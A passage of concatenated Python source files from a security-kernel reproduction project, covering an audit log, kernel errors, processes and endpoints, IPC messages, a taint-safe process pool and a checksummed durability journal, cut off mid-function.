    def bind_owner(self, ident: Optional[int] = None) -> None:
        """Bind append/eviction to one thread (default: the caller).

        A sharded front end routes every request to the shard that
        owns the subject; this guard makes a routing bug — two shards
        writing one log — a loud :class:`CrossShardWrite` instead of
        an interleaved, unreproducible audit stream.  Costs one
        attribute load + ``None`` check per record while unbound."""
        self._owner_ident = get_ident() if ident is None else ident

    def unbind_owner(self) -> None:
        """Remove the thread binding (shard teardown, tests)."""
        self._owner_ident = None

    @property
    def max_events(self) -> Optional[int]:
        """The ring bound (None = unbounded)."""
        return self._capacity

    def record(self, category: str, allowed: bool, subject: str,
               detail: str, **extra: Any) -> AuditEvent:
        """Append an event and notify subscribers."""
        return self._append(category, allowed, subject, detail,
                            extra if extra else None, None)

    def record_lazy(self, category: str, allowed: bool, subject: str,
                    template: str, args: Optional[tuple] = None,
                    extra: Optional[dict[str, Any]] = None) -> AuditEvent:
        """Append an event whose detail is ``template % args``.

        The hot-path spelling of :meth:`record`: no kwargs dict, no
        ``%`` call, no ``extra`` allocation unless a trace is active or
        the caller supplied one.  ``args`` values must be immutable (or
        interned) so the deferred render is byte-identical to an eager
        one.  With :attr:`lazy` off the template is rendered here —
        the differential suites prove both spellings emit the same
        bytes.
        """
        if not self.lazy:
            # The naive twin reproduces the pre-M14 call shape exactly:
            # render eagerly, then enter through the public record()
            # with the diagnostic payload spread as keyword arguments —
            # that is what every call site did before the lazy path
            # existed, and it is the cost the M14 benchmark holds up as
            # its baseline.
            if args is not None:
                template = template % args
            if extra:
                return self.record(category, allowed, subject, template,
                                   **extra)
            return self.record(category, allowed, subject, template)
        if self._owner_ident is not None or self.trace_source is not None:
            return self._append(category, allowed, subject, template,
                                extra, args)
        # Inlined append — the M14 fast path.  No owner guard, no trace
        # stamp, no render: one dict probe maintains index and counters.
        self._seq += 1
        event = AuditEvent(self._seq, category, allowed, subject, template,
                           extra, args)
        events = self._events
        cats = self._cats
        if self._capacity is not None and len(events) == self._capacity:
            self.dropped += 1  # the append below evicts the oldest
            victim = events[0]
            vcat = cats[victim.category]
            if vcat[0] is not None:
                vcat[0].popleft()
            if victim.allowed:
                vcat[1] -= 1
                self._n_allowed -= 1
            else:
                vcat[2] -= 1
                self._n_denied -= 1
        events.append(event)
        cat = cats.get(category)
        if cat is None:
            cat = cats[category] = [deque() if self._indexed else None, 0, 0]
        if cat[0] is not None:
            cat[0].append(event)
        if allowed:
            cat[1] += 1
            self._n_allowed += 1
        else:
            cat[2] += 1
            self._n_denied += 1
        if self._subscribers:
            for fn in self._subscribers:
                fn(event)
        return event

    def _append(self, category: str, allowed: bool, subject: str,
                detail: str, extra: Optional[dict[str, Any]],
                args: Optional[tuple]) -> AuditEvent:
        owner = self._owner_ident
        if owner is not None and get_ident() != owner:
            raise CrossShardWrite(
                f"audit record {category!r} for {subject!r} arrived on "
                f"thread {get_ident()} but this log is bound to shard "
                f"worker {owner}: a request was misrouted across shards")
        ts = self.trace_source
        if ts is not None:
            cur = ts.current
            if cur is not None:
                if extra is None:
                    extra = {}
                extra["trace_id"] = cur.trace.trace_id
                extra["span_id"] = cur.span_id
        self._seq += 1
        event = AuditEvent(self._seq, category, allowed, subject, detail,
                           extra, args)
        events = self._events
        cats = self._cats
        if self._capacity is not None and len(events) == self._capacity:
            self.dropped += 1  # the append below evicts the oldest
            # global FIFO eviction: the victim is the leftmost event
            # (and the leftmost entry of its category's deque)
            victim = events[0]
            vcat = cats[victim.category]
            if vcat[0] is not None:
                vcat[0].popleft()
            if victim.allowed:
                vcat[1] -= 1
                self._n_allowed -= 1
            else:
                vcat[2] -= 1
                self._n_denied -= 1
        events.append(event)
        cat = cats.get(category)
        if cat is None:
            cat = cats[category] = [deque() if self._indexed else None, 0, 0]
        if cat[0] is not None:
            cat[0].append(event)
        if allowed:
            cat[1] += 1
            self._n_allowed += 1
        else:
            cat[2] += 1
            self._n_denied += 1
        if self._subscribers:
            for fn in self._subscribers:
                fn(event)
        return event

    def subscribe(self, fn: Callable[[AuditEvent], None]) -> None:
        """Register a callback invoked on every new event."""
        self._subscribers.append(fn)

    # -- queries -----------------------------------------------------------

    @property
    def total_recorded(self) -> int:
        """Events ever recorded, including any the ring discarded."""
        return self._seq

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[AuditEvent]:
        return iter(self._events)

    def events(self, category: Optional[str] = None,
               subject: Optional[str] = None,
               allowed: Optional[bool] = None) -> list[AuditEvent]:
        """Events matching every given filter."""
        if category is not None and self._indexed:
            cat = self._cats.get(category)
            source: Any = cat[0] if cat is not None else ()
            category = None  # already satisfied by the index
        else:
            source = self._events
        out = []
        for e in source:
            if category is not None and e.category != category:
                continue
            if subject is not None and e.subject != subject:
                continue
            if allowed is not None and e.allowed != allowed:
                continue
            out.append(e)
        return out

    def denials(self, category: Optional[str] = None) -> list[AuditEvent]:
        """All denied events, optionally in one category."""
        return self.events(category=category, allowed=False)

    def count(self, category: Optional[str] = None,
              allowed: Optional[bool] = None) -> int:
        """Matching-event count in O(1) from the maintained counters.

        Equivalent to ``len(self.events(category=..., allowed=...))``
        over the retained ring (``tests/kernel/test_audit_index.py``
        pins the equivalence, eviction included).
        """
        if category is None:
            if allowed is None:
                return len(self._events)
            return self._n_allowed if allowed else self._n_denied
        cat = self._cats.get(category)
        if cat is None:
            return 0
        if allowed is None:
            return cat[1] + cat[2]
        return cat[1] if allowed else cat[2]

    def last(self) -> Optional[AuditEvent]:
        return self._events[-1] if self._events else None

    def clear(self) -> None:
        """Drop all events (test convenience; providers would archive)."""
        self._events.clear()
        self._cats.clear()
        self._n_allowed = 0
        self._n_denied = 0
