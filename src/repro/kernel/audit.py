"""Audit log: the kernel's append-only record of security decisions.

W5 argues (§2) that users must be able to hold the provider to account;
the audit log is the mechanism.  Every flow decision, label change,
spawn, grant, and export attempt is recorded — allowed or denied — so
tests and benchmarks can assert not just on outcomes but on the
decisions that produced them.

The log is deliberately outside the label system: audit records are
provider-private and never flow back to applications.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Any, Callable, Iterator, Optional, Union

#: Event categories, used for filtering.
SPAWN = "spawn"
EXIT = "exit"
SEND = "send"
RECEIVE = "receive"
LABEL_CHANGE = "label_change"
GRANT = "grant"
TAG_CREATE = "tag_create"
ENDPOINT = "endpoint"
FILE_READ = "file_read"
FILE_WRITE = "file_write"
DB_QUERY = "db_query"
EXPORT = "export"
DECLASSIFY = "declassify"
RESOURCE = "resource"


@dataclass(frozen=True, slots=True)
class AuditEvent:
    """One security decision."""

    seq: int
    category: str
    allowed: bool
    subject: str          # acting process name (or "gateway", "provider")
    detail: str
    extra: dict[str, Any] = field(default_factory=dict, compare=False)

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        verdict = "ALLOW" if self.allowed else "DENY"
        return f"[{self.seq}] {verdict} {self.category} {self.subject}: {self.detail}"


class AuditLog:
    """Append-only event log with simple query helpers.

    ``max_events`` turns the log into a bounded ring: once the limit is
    reached the oldest events are discarded and counted in
    :attr:`dropped`.  Counters derived through :meth:`subscribe` (e.g.
    :class:`~repro.core.metrics.Metrics`) see every event regardless —
    only the *retained* history is bounded, which is what keeps long
    benchmark runs (the M8 scaling loads) from accumulating unbounded
    memory.  ``capacity`` is the older spelling of the same knob.
    """

    def __init__(self, capacity: Optional[int] = None,
                 max_events: Optional[int] = None) -> None:
        self._capacity = max_events if max_events is not None else capacity
        # a deque ring evicts in O(1); the unbounded log stays a list
        self._events: Union[list[AuditEvent], deque[AuditEvent]] = (
            deque(maxlen=self._capacity) if self._capacity is not None
            else [])
        self._seq = 0
        #: Events discarded by the ring bound (0 while unbounded).
        self.dropped = 0
        self._subscribers: list[Callable[[AuditEvent], None]] = []

    @property
    def max_events(self) -> Optional[int]:
        """The ring bound (None = unbounded)."""
        return self._capacity

    def record(self, category: str, allowed: bool, subject: str,
               detail: str, **extra: Any) -> AuditEvent:
        """Append an event and notify subscribers."""
        self._seq += 1
        event = AuditEvent(self._seq, category, allowed, subject, detail, extra)
        if self._capacity is not None \
                and len(self._events) == self._capacity:
            self.dropped += 1  # the append below evicts the oldest
        self._events.append(event)
        for fn in self._subscribers:
            fn(event)
        return event

    def subscribe(self, fn: Callable[[AuditEvent], None]) -> None:
        """Register a callback invoked on every new event."""
        self._subscribers.append(fn)

    # -- queries -----------------------------------------------------------

    @property
    def total_recorded(self) -> int:
        """Events ever recorded, including any the ring discarded."""
        return self._seq

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[AuditEvent]:
        return iter(self._events)

    def events(self, category: Optional[str] = None,
               subject: Optional[str] = None,
               allowed: Optional[bool] = None) -> list[AuditEvent]:
        """Events matching every given filter."""
        out = []
        for e in self._events:
            if category is not None and e.category != category:
                continue
            if subject is not None and e.subject != subject:
                continue
            if allowed is not None and e.allowed != allowed:
                continue
            out.append(e)
        return out

    def denials(self, category: Optional[str] = None) -> list[AuditEvent]:
        """All denied events, optionally in one category."""
        return self.events(category=category, allowed=False)

    def count(self, category: Optional[str] = None,
              allowed: Optional[bool] = None) -> int:
        return len(self.events(category=category, allowed=allowed))

    def last(self) -> Optional[AuditEvent]:
        return self._events[-1] if self._events else None

    def clear(self) -> None:
        """Drop all events (test convenience; providers would archive)."""
        self._events.clear()
