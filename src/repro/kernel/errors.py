"""Kernel-level errors (on top of the label errors).

All classes derive from the unified :class:`repro.errors.W5Error`
hierarchy; lookups that fail are additionally
:class:`repro.errors.NotFound`.
"""

from __future__ import annotations

from ..errors import NotFound, W5Error
from ..labels import LabelError


class KernelError(W5Error):
    """Base class for kernel refusals unrelated to labels."""


class NoSuchProcess(KernelError, NotFound):
    """The named process does not exist or has exited."""


class NoSuchEndpoint(KernelError, NotFound):
    """The named endpoint does not exist or was closed."""


class DeadProcess(KernelError):
    """Operation attempted by or on a process that has exited."""


class MailboxEmpty(KernelError):
    """A receive was attempted with no deliverable message queued."""


class EndpointMisuse(KernelError):
    """An endpoint was used in a direction it does not support."""


class ResourceExhausted(KernelError):
    """A resource quota (CPU, memory, disk, network, queries) ran out."""


__all__ = [
    "KernelError", "NoSuchProcess", "NoSuchEndpoint", "DeadProcess",
    "MailboxEmpty", "EndpointMisuse", "ResourceExhausted", "LabelError",
]
