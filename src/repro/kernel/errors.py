"""Kernel-level errors (on top of the label errors)."""

from __future__ import annotations

from ..labels import LabelError


class KernelError(Exception):
    """Base class for kernel refusals unrelated to labels."""


class NoSuchProcess(KernelError):
    """The named process does not exist or has exited."""


class NoSuchEndpoint(KernelError):
    """The named endpoint does not exist or was closed."""


class DeadProcess(KernelError):
    """Operation attempted by or on a process that has exited."""


class MailboxEmpty(KernelError):
    """A receive was attempted with no deliverable message queued."""


class EndpointMisuse(KernelError):
    """An endpoint was used in a direction it does not support."""


class ResourceExhausted(KernelError):
    """A resource quota (CPU, memory, disk, network, queries) ran out."""


__all__ = [
    "KernelError", "NoSuchProcess", "NoSuchEndpoint", "DeadProcess",
    "MailboxEmpty", "EndpointMisuse", "ResourceExhausted", "LabelError",
]
