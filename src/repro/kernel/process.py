"""Processes and endpoints: the kernel's subjects.

A :class:`Process` is the unit of confinement — one running instance of
a developer-contributed module, a declassifier, or a provider service.
Its mutable security state (secrecy label, integrity label, capability
set) may only be changed through kernel syscalls, which enforce the
label-change rules.

Following Flume, all communication happens through :class:`Endpoint`\\ s
with *declared* labels.  An endpoint must at all times be within the
capability-reach of its process's labels; messages are then checked
endpoint-to-endpoint with *exact* subset comparisons.  This discipline
is what lets a process hold a powerful capability (say, Bob's ``t-``)
while still being unable to leak accidentally through channels it did
not explicitly mark for declassification.
"""

from __future__ import annotations

import itertools
from collections import deque
from dataclasses import dataclass, field
from typing import Any, Optional, TYPE_CHECKING

from ..labels import CapabilitySet, Label, endpoint_label_legal

if TYPE_CHECKING:  # pragma: no cover
    from .ipc import Message

#: Endpoint directions.
SEND = "send"
RECV = "recv"
BOTH = "both"

_endpoint_ids = itertools.count(1)


@dataclass
class Endpoint:
    """A communication port with declared secrecy/integrity labels.

    ``slabel``/``ilabel`` are what the *kernel* uses for every flow
    check through this endpoint.  They default to the owner's labels at
    creation time but may be declared anywhere within capability reach,
    which is how a declassifier pokes a controlled hole: it declares a
    send endpoint *below* its own secrecy label, spending its ``t-``.
    """

    owner_pid: int
    slabel: Label
    ilabel: Label
    direction: str = BOTH
    name: str = ""
    endpoint_id: int = field(default_factory=lambda: next(_endpoint_ids))
    closed: bool = False

    def can_send(self) -> bool:
        return not self.closed and self.direction in (SEND, BOTH)

    def can_recv(self) -> bool:
        return not self.closed and self.direction in (RECV, BOTH)

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return (f"Endpoint(#{self.endpoint_id} {self.name or 'anon'} "
                f"pid={self.owner_pid} dir={self.direction})")


class Process:
    """A confined subject: labels, capabilities, endpoints, mailbox.

    Application code never holds a ``Process`` directly — it gets a
    :class:`~repro.kernel.syscalls.W5Syscalls` facade bound to one, and
    the kernel mediates every state change.  The attributes here are
    "hardware registers": reading them is harmless, writing them from
    outside the kernel is out of scope of the threat model (it would
    correspond to breaking out of the OS in a real deployment).
    """

    def __init__(self, pid: int, name: str, slabel: Label, ilabel: Label,
                 caps: CapabilitySet, owner_user: Optional[str] = None) -> None:
        self.pid = pid
        self.name = name
        #: Bumped on every label/capability assignment; the flow cache
        #: keys its per-subject verdicts on (pid, epoch), so a stale
        #: verdict can never outlive the state it was computed under —
        #: even if trusted code mutates these attributes directly
        #: instead of going through a kernel syscall.
        self.label_epoch = 0
        self.slabel = slabel
        self.ilabel = ilabel
        self.caps = caps
        #: The end-user on whose behalf this process runs (audit only).
        self.owner_user = owner_user
        self.alive = True
        self.exit_value: Any = None
        self.endpoints: dict[int, Endpoint] = {}
        self.mailbox: deque["Message"] = deque()
        #: Scratch space for application state; invisible to the kernel.
        self.locals: dict[str, Any] = {}

    # -- label state (epoch-tracked for the flow cache) -------------------

    @property
    def slabel(self) -> Label:
        return self._slabel

    @slabel.setter
    def slabel(self, value: Label) -> None:
        self._slabel = value
        self.label_epoch += 1

    @property
    def ilabel(self) -> Label:
        return self._ilabel

    @ilabel.setter
    def ilabel(self, value: Label) -> None:
        self._ilabel = value
        self.label_epoch += 1

    @property
    def caps(self) -> CapabilitySet:
        return self._caps

    @caps.setter
    def caps(self, value: CapabilitySet) -> None:
        self._caps = value
        self.label_epoch += 1

    # -- endpoint bookkeeping (kernel-internal) ---------------------------

    def endpoint_legal(self, ep: Endpoint, cache=None) -> bool:
        """Check ``ep``'s declared labels against this process's reach.

        Secrecy endpoints must lie in ``[S − D⁻, S ∪ D⁺]``; integrity
        endpoints dually must lie in ``[I − D⁻, I ∪ D⁺]`` (an endpoint
        may not claim integrity the process could not claim).

        ``cache`` is the kernel's :class:`~repro.labels.FlowCache`;
        when given, the (pure, immutable-input) reach check is memoized.
        """
        if cache is not None:
            return cache.endpoint_legal(ep.slabel, ep.ilabel,
                                        self.slabel, self.ilabel, self.caps)
        return (endpoint_label_legal(ep.slabel, self.slabel, self.caps)
                and endpoint_label_legal(ep.ilabel, self.ilabel, self.caps))

    def revalidate_endpoints(self, cache=None) -> list[Endpoint]:
        """After a label change, close any endpoint that fell out of
        reach.  Returns the endpoints that were closed.

        Flume refuses label changes that would orphan an endpoint; we
        adopt the gentler-but-equally-safe variant of force-closing
        them, which keeps application code simpler while preserving the
        invariant that every *usable* endpoint is within reach.
        """
        closed = []
        for ep in self.endpoints.values():
            if not ep.closed and not self.endpoint_legal(ep, cache=cache):
                ep.closed = True
                closed.append(ep)
        return closed

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        status = "alive" if self.alive else "dead"
        return f"Process(pid={self.pid} {self.name!r} {status})"
