"""IPC messages.

A message is immutable payload plus the security context it was sent
under: the label of the sending endpoint (which becomes the *floor* on
what the receiver learns) and any capabilities the sender chose to
delegate.  Capability delegation rides the same checked channel as
data — a process cannot receive privilege it could not have received
bytes from.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Any

from ..labels import CapabilitySet, Label

_message_ids = itertools.count(1)


@dataclass(frozen=True, slots=True)
class Message:
    """One delivered IPC message."""

    sender_pid: int
    sender_endpoint: int
    recipient_pid: int
    recipient_endpoint: int
    payload: Any
    #: Labels of the sending endpoint at send time (receiver-visible).
    slabel: Label
    ilabel: Label
    #: Capabilities delegated alongside the payload.
    granted: CapabilitySet = CapabilitySet.EMPTY
    topic: str = ""
    message_id: int = field(default_factory=lambda: next(_message_ids))

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return (f"Message(#{self.message_id} {self.sender_pid}->"
                f"{self.recipient_pid} topic={self.topic!r})")
