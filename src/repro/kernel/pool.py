"""App-process recycling: a per-(name, labels, caps) pool in the kernel.

The §2 request pipeline launches one confined process per request and
destroys it afterwards.  That churn is pure overhead when the process
finishes *exactly* where it started — same secrecy, same integrity,
same capabilities — which is the common case for provider services and
for applications that answered without touching labeled data.  The
pool keeps such processes alive between requests: launch becomes a
list pop and teardown a scrub, instead of a fresh process-table entry
and a flow-cache invalidation each time.

Taint safety is the non-negotiable rule: **a process whose labels or
capabilities changed during a request is never returned to the pool.**
A floated/raised secrecy label means the process touched somebody's
data; reusing it for the next viewer would carry one request's taint
(and one request's privileges) into another's.  Such processes take
the ordinary :meth:`~repro.kernel.kernel.Kernel.exit` path, and the
``rejected_tainted`` counter makes the refusals observable.

Recycling is decision-invisible by construction:

* checkout and release emit the same audit categories (``spawn`` /
  ``exit``, flagged "recycled" in the detail) as real spawn/exit, so
  audit-derived counters agree with an unpooled kernel;
* request-scoped state — endpoints, mailbox, scratch locals, resource
  budgets — is scrubbed at release, so a reused process is
  indistinguishable from a fresh one to the next request (budgets are
  per-activation either way, via :meth:`ResourceHook.on_recycle`);
* labels and capabilities are *verified unchanged*, never reset, so
  the flow cache's per-subject verdicts stay valid across reuse — that
  is the performance point of pooling, and it is only sound because
  tainted processes are excluded.

``tests/kernel/test_pool_differential.py`` drives pooled and unpooled
deployments through identical request histories and asserts every
response and every audit verdict is identical.
"""

from __future__ import annotations

from typing import Any, Optional

from ..labels import CapabilitySet, Label
from . import audit as A
from .process import Process


class ProcessPool:
    """Recycles trusted processes keyed by (name, labels, caps).

    ``enabled=False`` makes :meth:`checkout`/:meth:`release` exact
    aliases for ``spawn_trusted``/``exit`` — the differential tests and
    the M8 before/after benchmarks compare the two modes on the same
    call sites.  ``max_idle`` bounds each key's free list; overflow
    falls back to a real exit.
    """

    def __init__(self, kernel: Any, enabled: bool = False,
                 max_idle: int = 8) -> None:
        self.kernel = kernel
        self.enabled = enabled
        self.max_idle = max_idle
        self._idle: dict[tuple, list[Process]] = {}
        #: pid -> launch key for processes checked out of this pool.
        self._launch_keys: dict[int, tuple] = {}
        # observability
        self.reuses = 0
        self.fresh_spawns = 0
        self.recycled = 0
        self.rejected_tainted = 0
        self.evicted = 0

    # ------------------------------------------------------------------

    def checkout(self, name: str, slabel: Label = Label.EMPTY,
                 ilabel: Label = Label.EMPTY,
                 caps: CapabilitySet = CapabilitySet.EMPTY,
                 owner_user: Optional[str] = None) -> Process:
        """A process with exactly this launch state: pooled if one is
        idle under the key, freshly spawned otherwise.

        Reuse is audited as a ``spawn`` so decision-stream consumers
        (metrics, the differential tests) count launches identically
        with and without the pool.
        """
        tracer = self.kernel.tracer
        # _fold gates detail sampling; checking it here (instead of
        # unconditionally calling tracer.detail) keeps the unsampled
        # steady state free of the kwargs/annotate setup below
        if tracer._fold:
            before = self.reuses
            with tracer.detail("kernel.checkout", process=name) as sp:
                proc = self._checkout(name, slabel, ilabel, caps,
                                      owner_user)
                sp.annotate(reused=self.reuses > before, pid=proc.pid)
                return proc
        return self._checkout(name, slabel, ilabel, caps, owner_user)

    def checkout_planned(self, key: tuple,
                         owner_user: Optional[str] = None) -> Process:
        """:meth:`checkout` taking the finished launch key directly.

        Request plans (M12) precompute ``(name, slabel, ilabel, caps)``
        once per (app, viewer) pair; this entrypoint skips rebuilding
        the tuple per request.  Audit and tracing are identical to
        :meth:`checkout` on the same state.
        """
        tracer = self.kernel.tracer
        if tracer._fold:
            before = self.reuses
            with tracer.detail("kernel.checkout", process=key[0]) as sp:
                proc = self._checkout_key(key, owner_user)
                sp.annotate(reused=self.reuses > before, pid=proc.pid)
                return proc
        return self._checkout_key(key, owner_user)

    def _checkout(self, name: str, slabel: Label, ilabel: Label,
                  caps: CapabilitySet,
                  owner_user: Optional[str]) -> Process:
        return self._checkout_key((name, slabel, ilabel, caps), owner_user)

    def _checkout_key(self, key: tuple,
                      owner_user: Optional[str]) -> Process:
        name, slabel, ilabel, caps = key
        if self.enabled:
            bucket = self._idle.get(key)
            if bucket:
                proc = bucket.pop()
                proc.owner_user = owner_user
                self.reuses += 1
                self.kernel.audit.record_lazy(
                    A.SPAWN, True, "provider",
                    "trusted spawn %r pid=%d (recycled)",
                    (name, proc.pid), {"pid": proc.pid})
                return proc
        self.fresh_spawns += 1
        # the implementation, not the public wrapper: checkout's own
        # span already times the launch, so a nested kernel.spawn span
        # would only double-count it
        proc = self.kernel._spawn_trusted(name, slabel, ilabel, caps,
                                          owner_user)
        self._launch_keys[proc.pid] = key
        return proc

    def release(self, process: Process) -> bool:
        """Finish a request: pool the process if safe, else exit it.

        Returns True iff the process went back to the pool.  The safety
        gate is exact equality with the launch state — any label float,
        raise, lower, or capability change during the request (reads
        taint; received delegations grant) disqualifies reuse.
        """
        if not process.alive:
            return False
        key = self._launch_keys.get(process.pid)
        if not self.enabled or key is None:
            self._launch_keys.pop(process.pid, None)
            self.kernel.exit(process)
            return False
        name, slabel, ilabel, caps = key
        if (process.slabel != slabel or process.ilabel != ilabel
                or process.caps != caps):
            # Tainted (or privilege-shifted): never reused.
            self.rejected_tainted += 1
            self._launch_keys.pop(process.pid, None)
            self.kernel.exit(process)
            return False
        bucket = self._idle.setdefault(key, [])
        if len(bucket) >= self.max_idle:
            self.evicted += 1
            self._launch_keys.pop(process.pid, None)
            self.kernel.exit(process)
            return False
        # Scrub every piece of request-scoped state.  Labels and caps
        # were just verified identical to launch, so the flow cache's
        # epoch-guarded subject verdicts remain valid — deliberately
        # NOT invalidated, that carry-over is the win.
        for ep in process.endpoints.values():
            ep.closed = True
            self.kernel._endpoints.pop(ep.endpoint_id, None)
        process.endpoints.clear()
        process.mailbox.clear()
        process.locals.clear()
        process.exit_value = None
        process.owner_user = None
        self.kernel.resources.on_recycle(process)
        self.recycled += 1
        self.kernel.audit.record_lazy(
            A.EXIT, True, process.name,
            "exit pid=%d (recycled)", (process.pid,), {"pid": process.pid})
        bucket.append(process)
        return True

    # ------------------------------------------------------------------

    def idle_count(self, name: Optional[str] = None) -> int:
        """Idle processes pooled (optionally for one process name)."""
        return sum(len(bucket) for key, bucket in self._idle.items()
                   if name is None or key[0] == name)

    def drain(self) -> int:
        """Exit every idle process (test/shutdown convenience)."""
        drained = 0
        for bucket in self._idle.values():
            for proc in bucket:
                self._launch_keys.pop(proc.pid, None)
                self.kernel.exit(proc)
                drained += 1
        self._idle.clear()
        return drained

    def stats(self) -> dict[str, Any]:
        """Counters for metrics/benchmarks."""
        return {
            "enabled": self.enabled,
            "reuses": self.reuses,
            "fresh_spawns": self.fresh_spawns,
            "recycled": self.recycled,
            "rejected_tainted": self.rejected_tainted,
            "evicted": self.evicted,
            "idle": self.idle_count(),
        }
