"""The durability journal: checksummed JSON-lines, replayable.

A W5 provider that snapshots its whole deployment on every deploy pays
O(total state) per snapshot — the trap the M10 experiment measures.
The journal makes durability **incremental**: every durable mutation
(account lifecycle, policy grants, fs and db writes, tag creation)
appends one record here, and recovery becomes *base snapshot + replay*
instead of *latest full snapshot*.

Record format (one record per line, pure JSON)::

    {"crc": "9a2b3c4d", "data": {...}, "op": "fs.write", "seq": 17}\n

* ``seq`` is a monotone sequence number starting at 1 after each
  compaction; a gap or regression means corruption and truncates the
  journal there.
* ``crc`` is the CRC-32 (zlib, 8 hex digits) of the line bytes with
  the fixed-width ``{"crc":"xxxxxxxx",`` prefix replaced by ``{`` —
  i.e. of the record exactly as serialized, minus the checksum field
  itself.  Verification is a byte slice + crc32, never a
  re-serialization, so a flipped byte or a torn write is detected
  without trusting the line to parse at all.
* ``data`` is op-specific and must be JSON-representable; binary
  payloads are transported via :func:`encode_payload` (base64-tagged),
  and anything beyond that degrades to an ``journal.opaque`` marker
  (counted, reported at recovery) rather than poisoning the log.

**Torn-tail semantics**: :meth:`Journal.recover` reads records until
the first line that is incomplete (no trailing newline), unparseable,
checksum-mismatched, or out of sequence, *truncates there*, and
returns everything before it.  A crash mid-``append`` therefore loses
at most the record being written — never a prefix, never a suffix
re-ordering — which is what makes base+replay reproduce a full restore
byte for byte (``tests/platform/test_journal_replay.py``).

The journal is storage-agnostic: it maintains its byte image in
memory (``raw_bytes``), exactly what a real deployment would ``write``
+ ``fsync`` per record; tests crash it by slicing that image at every
offset.
"""

from __future__ import annotations

import base64
import itertools
import json
import zlib
from dataclasses import dataclass
from typing import Any, Optional

from ..errors import W5Error

__all__ = ["Journal", "JournalCursor", "JournalError", "JournalRecord",
           "ReplayReport", "encode_payload", "decode_payload"]


class JournalError(W5Error):
    """A journal invariant was violated (not a recoverable torn tail)."""


#: Byte length of the fixed-width line prefix ``{"crc":"xxxxxxxx",``.
_CRC_PREFIX_LEN = len(b'{"crc":"00000000",')


def _body(seq: int, op: str, data: dict[str, Any]) -> str:
    return json.dumps({"seq": seq, "op": op, "data": data},
                      separators=(",", ":"))


@dataclass(frozen=True)
class JournalRecord:
    """One verified durable mutation."""

    seq: int
    op: str
    data: dict[str, Any]


@dataclass(frozen=True)
class JournalCursor:
    """A resumable position in one journal's history (M15).

    Consumers that *tail* the journal — the federation delta-sync
    plane — hold one of these per (user, peer) and ask for
    :meth:`Journal.tail_from` it.  A cursor is only meaningful against
    the exact journal instance and epoch it was minted from:

    * ``journal_id`` is a process-unique instance id, so a cursor
      taken against a provider that has since been rebuilt (crash
      recovery replaces the Journal object) can never silently alias
      the new journal's sequence numbers;
    * ``epoch`` counts :meth:`Journal.reset` calls — every compaction
      or checkpoint folds the journaled history into the base
      snapshot and restarts ``seq`` at 0, so a cursor from a previous
      epoch points at history that no longer exists as records.

    ``Journal.tail_from`` returns ``None`` for a stale cursor instead
    of guessing; the consumer must fall back to a full resync (the
    federation plane's content-based reconciler) and mint a fresh
    cursor.  That is what makes cursor reattachment after provider
    failure *safe* rather than merely optimistic.
    """

    journal_id: int
    epoch: int
    seq: int


@dataclass
class ReplayReport:
    """What :meth:`Journal.recover` found in a raw journal image."""

    records: int = 0
    #: Bytes dropped from the tail (0 on a clean shutdown).
    truncated_bytes: int = 0
    #: Why the tail was truncated ("" when it was not).
    truncation_reason: str = ""
    #: ``journal.opaque`` markers seen (mutations whose payload could
    #: not be journaled; their state is only in full snapshots).
    opaque_records: int = 0


# -- payload transport ------------------------------------------------------

#: JSON-native leaf types that pass through untouched.
_NATIVE = (type(None), bool, int, float, str)


def encode_payload(value: Any) -> Any:
    """Make ``value`` JSON-representable, reversibly.

    ``bytes``/``bytearray`` become ``{"__w5b64__": "..."}``; tuples
    become lists (the same coercion a snapshot→JSON→restore round trip
    applies); dicts and lists recurse.  Anything else raises
    ``TypeError`` — the caller downgrades the record to an opaque
    marker rather than losing the whole journal.
    """
    if isinstance(value, _NATIVE):
        return value
    if isinstance(value, (bytes, bytearray)):
        return {"__w5b64__": base64.b64encode(bytes(value)).decode("ascii")}
    if isinstance(value, dict):
        out = {}
        for k, v in value.items():
            if not isinstance(k, str):
                raise TypeError(f"non-string key {k!r}")
            if k == "__w5b64__":
                raise TypeError("reserved key __w5b64__")
            out[k] = encode_payload(v)
        return out
    if isinstance(value, (list, tuple)):
        return [encode_payload(v) for v in value]
    raise TypeError(f"unjournalable payload of type {type(value).__name__}")


def decode_payload(value: Any) -> Any:
    """Inverse of :func:`encode_payload` (tuples come back as lists)."""
    if isinstance(value, dict):
        if set(value) == {"__w5b64__"}:
            return base64.b64decode(value["__w5b64__"])
        return {k: decode_payload(v) for k, v in value.items()}
    if isinstance(value, list):
        return [decode_payload(v) for v in value]
    return value


class Journal:
    """An append-only, checksummed, replayable mutation log."""

    #: Process-unique instance ids (see :class:`JournalCursor`).
    _ids = itertools.count(1)

    def __init__(self, compact_threshold: int = 1 << 20) -> None:
        #: Compaction trigger: once the image exceeds this many bytes,
        #: the next incremental snapshot escalates to a full one and
        #: resets the journal (see DurabilityManager).
        self.compact_threshold = compact_threshold
        #: Identity for cursors: never reused within a process.
        self.journal_id = next(Journal._ids)
        #: Bumped on every :meth:`reset`; cursors from older epochs
        #: are stale (their history was folded into the base snapshot).
        self.epoch = 0
        self._buf = bytearray()
        self._seq = 0
        #: Byte offset where each record's line starts:
        #: ``_offsets[k]`` is the offset of the record with seq
        #: ``k + 1``.  One int per record, so tailing is an O(new
        #: records) parse — never a rescan of the whole image.
        self._offsets: list[int] = []
        self._stats = {"appends": 0, "bytes_written": 0,
                       "opaque_appends": 0, "resets": 0}

    # -- writing -----------------------------------------------------------

    def append(self, op: str, data: dict[str, Any]) -> JournalRecord:
        """Append one durable mutation; returns the sealed record.

        ``data`` is encoded via :func:`encode_payload`; a payload that
        cannot be encoded is replaced by a ``journal.opaque`` marker
        (op preserved inside) so the log structure survives — recovery
        reports it and the state it covered lives only in snapshots.
        """
        seq = self._seq + 1
        try:
            # Fast path: most payloads are already JSON-native, so one
            # dumps call both validates and serializes them.  Tuples
            # serialize as lists here, matching encode_payload.
            body = json.dumps({"seq": seq, "op": op, "data": data},
                              separators=(",", ":"))
            encoded = data
        except (TypeError, ValueError):
            try:
                encoded = encode_payload(data)
            except TypeError as exc:
                self._stats["opaque_appends"] += 1
